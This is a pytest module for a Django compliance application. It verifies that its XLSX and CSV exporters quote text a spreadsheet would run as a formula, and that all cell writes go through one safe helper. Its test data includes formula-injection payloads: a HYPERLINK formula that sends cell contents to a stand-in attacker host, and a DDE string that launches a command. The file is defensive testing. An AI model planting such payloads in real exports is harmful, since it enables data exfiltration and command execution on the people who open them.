"""Defect 6 of issue 9: every exporter neutralises text a spreadsheet would run as a formula.

Each exporter is run on records whose text starts with each dangerous character; the XLSX is
read back with openpyxl (no formula cell, the text kept behind a single quote) and the CSV with
``csv``. A last test fails when a module writes a workbook or a CSV without the one cell writer
of ``keel/platform/cells.py``."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from keel.controls.models import Control
from keel.gap.tests import factories as gap_factories
from keel.gap.tests.conftest import world  # noqa: F401  (the gap tests' fixture)
from keel.mapping.models import CrosswalkRelation
from keel.organisation.models import ManagementSystem
from keel.platform.cells import DANGEROUS_STARTS
from keel.platform.models import User
from keel.risks.tests import factories as risk_factories
from keel.soa import exports as soa_exports
from keel.soa.tests.factories import soa_for
from keel.standards.models import Requirement

pytestmark = pytest.mark.django_db

PAYLOADS = [f'{c}HYPERLINK("http://evil.example/?x="&A1,"open") {i}' for i, c in enumerate(DANGEROUS_STARTS)]
PAYLOADS[0] = "=1+1 cmd|' /C calc'!A0"


def _xlsx_values(content: bytes) -> list[Any]:
    """Every cell of every sheet, after checking none of them is a formula."""
    values = []
    for ws in load_workbook(io.BytesIO(content)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                values.append(cell.value)
    return values


def _assert_neutralised(values: list[Any]) -> None:
    texts = [v for v in values if isinstance(v, str)]
    for payload in PAYLOADS:
        # (XML turns a stored CR into LF on reading, so match the text after the first character)
        found = [t for t in texts if payload[1:] in t]
        assert found, f"{payload!r} is missing from the export"
        assert all(t.startswith("'") for t in found), found
    assert any(t == "'" + PAYLOADS[0] for t in texts)


def test_risk_register_xlsx(admin_client: Client, admin: User, isms: ManagementSystem) -> None:
    for payload in PAYLOADS:
        risk_factories.is_risk(isms, admin, title=payload)
    response = admin_client.get("/risks/export.xlsx?register=is")
    assert response.status_code == 200
    values = _xlsx_values(response.content)
    _assert_neutralised(values)
    # numbers stay numbers
    assert any(isinstance(v, int) and not isinstance(v, bool) for v in values)


def test_soa_xlsx(isms: ManagementSystem) -> None:
    soa = soa_for(isms)
    rows = list(soa.rows.order_by("requirement__sort_order")[: len(PAYLOADS)])
    for row, payload in zip(rows, PAYLOADS, strict=True):
        type(row).objects.filter(pk=row.pk).update(business_need=payload)
    _assert_neutralised(_xlsx_values(soa_exports.export([soa], "xlsx")))


def test_gap_xlsx(world: dict[str, Any], admin_client: Client) -> None:  # noqa: F811
    refs = ["4.1", "4.2", "T.1", "T.2", "T.3", "T.4"]
    reqs = list(Requirement.objects.filter(standard=world["t"], ref_id__in=refs).order_by("sort_order"))
    assert len(reqs) == len(PAYLOADS)
    for req, payload in zip(reqs, PAYLOADS, strict=True):
        Requirement.objects.filter(pk=req.pk).update(title=payload)
    response = admin_client.get("/api/v1/gap-analyses/export?target=t:2024&format=xlsx")
    assert response.status_code == 200
    _assert_neutralised(_xlsx_values(response.content))


def test_crosswalk_csv(admin_client: Client) -> None:
    key = "iso27001-2022--iso42001-2023"
    relations = list(CrosswalkRelation.objects.filter(crosswalk__key=key).order_by("pk")[: len(PAYLOADS)])
    for rel, payload in zip(relations, PAYLOADS, strict=True):
        CrosswalkRelation.objects.filter(pk=rel.pk).update(rationale=payload)
    for url in (f"/api/v1/crosswalks/{key}/export", f"/crosswalks/{key}/export.csv"):
        response = admin_client.get(url)
        assert response.status_code == 200, url
        text = response.content.decode("utf-8")
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        _assert_neutralised(cells)


@pytest.mark.parametrize("url", ["/risks/?register=is&export=csv", "/controls/?export=csv"])
def test_list_csv_exports(admin_client: Client, admin: User, isms: ManagementSystem, url: str) -> None:
    # the lists' "Download CSV" (keel.platform.tables) writes each cell through SafeCsvWriter
    for i, payload in enumerate(PAYLOADS):
        risk_factories.is_risk(isms, admin, title=payload)
        c = gap_factories.control(isms, f"KC-9{i:02d}", [])
        Control.objects.filter(pk=c.pk).update(title=payload)
    response = admin_client.get(url)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    _assert_neutralised(cells)


WRITES = [
    (re.compile(r"csv\.(writer|DictWriter)\("), "csv.writer outside keel/platform/cells.py"),
    (re.compile(r"\.cell\([^)]*value="), "a cell written with .cell(value=...)"),
    (re.compile(r"\b(ws|sheet|worksheet)\.append\("), "a row appended with ws.append"),
    (re.compile(r"\b\w+\[[\"'][A-Z]+\d+[\"']\]\s*="), 'a cell assigned with ws["A1"] = ...'),
]


def test_no_exporter_writes_cells_without_the_helper() -> None:
    root = Path(__file__).resolve().parent.parent / "keel"
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or path.name == "cells.py":
            continue
        text = path.read_text(encoding="utf-8")
        writes_sheets = "Workbook" in text or "csv" in text
        if not writes_sheets:
            continue
        for pattern, what in WRITES:
            for m in pattern.finditer(text):
                line = text.count("\n", 0, m.start()) + 1
                offenders.append(f"{path.relative_to(root.parent)}:{line}: {what}")
    assert not offenders, (
        "Write cells through keel.platform.cells (set_cell, append_row, SafeCsvWriter):\n"
        + "\n".join(offenders)
    )


@pytest.mark.parametrize("start", DANGEROUS_STARTS)
def test_safe_cell_quotes_dangerous_text_and_leaves_other_values(start: str) -> None:
    import datetime as dt

    from keel.platform.cells import safe_cell

    assert safe_cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"
    for value in (-3, 2.5, True, None, dt.date(2027, 1, 31), "Plain text", "a=b", ""):
        assert safe_cell(value) == value
